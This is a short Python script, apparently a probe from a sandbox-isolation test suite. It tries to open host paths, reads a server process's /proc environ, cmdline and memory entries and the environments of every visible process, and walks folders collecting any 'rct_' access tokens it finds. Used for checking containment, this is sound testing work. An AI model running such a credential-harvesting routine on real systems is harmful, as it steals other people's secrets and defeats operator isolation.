"""Try to read what the service keeps to itself.

--paths JSON   host paths to open (a folder: listed; a file: read)
--pid N        the server's host pid: its /proc entries are tried
--walk JSON    folders to walk, reading every file, looking for tokens
Reports, per path, "ok" or the errno name (and its size as stat sees it),
and every token-looking string
(rct_ + 48 hex digits) found anywhere readable."""
import json
import os
import re

from common import args, err_name, result

a = args()
paths = json.loads(a.get("paths", "[]"))
pid = a.get("pid")
walk = json.loads(a.get("walk", "[]"))
TOKEN = re.compile(rb"rct_[0-9a-f]{48}")
found = set()
out = {"paths": {}, "tokens": [], "files_read": 0}


def try_read(p):
    try:
        if os.path.isdir(p):
            os.listdir(p)
        else:
            with open(p, "rb") as f:
                data = f.read(1 << 20)
            found.update(m.decode() for m in TOKEN.findall(data))
        return "ok"
    except OSError as e:
        return err_name(e)


out["sizes"] = {}
for p in paths:
    out["paths"][p] = try_read(p)
    try:
        st = os.stat(p)
        out["sizes"][p] = st.st_size
    except OSError as e:
        out["sizes"][p] = err_name(e)
if pid:
    for leaf in ("environ", "cmdline", "mem", "root", "fd"):
        p = "/proc/%s/%s" % (pid, leaf)
        out["paths"][p] = try_read(p)
# Every process the cell can see: their environments and command lines.
for d in os.listdir("/proc"):
    if d.isdigit():
        for leaf in ("environ", "cmdline"):
            try_read("/proc/%s/%s" % (d, leaf))
for top in walk:
    for root, dirs, files in os.walk(top):
        for f in files:
            p = os.path.join(root, f)
            if os.path.isfile(p) and try_read(p) == "ok":
                out["files_read"] += 1
out["tokens"] = sorted(found)
result(out)
